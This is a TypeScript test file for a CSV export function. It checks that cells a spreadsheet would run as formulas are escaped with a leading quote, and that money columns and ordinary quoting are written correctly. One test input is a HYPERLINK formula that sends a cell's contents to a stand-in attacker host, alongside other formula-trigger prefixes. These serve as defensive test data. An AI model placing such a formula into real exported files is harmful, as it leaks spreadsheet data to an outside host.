import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { toCsv } from '../main/csv-write';

test('cells that a spreadsheet would run as a formula start with a quote; negative amounts stay numbers', () => {
  const hostile = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', '+SUM(1,2)', '-2+3', '@SUM(1,2)', '\tcmd', '\rcmd', '＝1+1'];
  const csv = toCsv(['name', 'amount', 'count'], hostile.map((name, i) => [name, -1250 - i, -i]), { moneyColumns: ['amount'], recordDelimiter: '\r\n' });
  const rows = parse(csv, { columns: true }) as Array<{ name: string; amount: string; count: string }>;
  expect(rows.map((r) => r.name)).toEqual(hostile.map((h) => `'${h}`));
  expect(rows.map((r) => r.amount)).toEqual(hostile.map((_, i) => (-(1250 + i) / 100).toFixed(2)));
  expect(rows[1]!.count).toBe('-1');
  expect(csv.endsWith('\r\n')).toBe(true);
});

test('ordinary values are written as before: quoting only where needed, empty for null', () => {
  expect(toCsv(['a', 'b', 'c', 'd'], [['Nguyen Bros, Removals', 'Mia "Mimi" Chen', null, ' pad ']])).toBe(
    'a,b,c,d\n"Nguyen Bros, Removals","Mia ""Mimi"" Chen",," pad "\n',
  );
  expect(toCsv(['amount'], [[12550], [0]], { moneyColumns: ['amount'] })).toBe('amount\n125.50\n0.00\n');
});
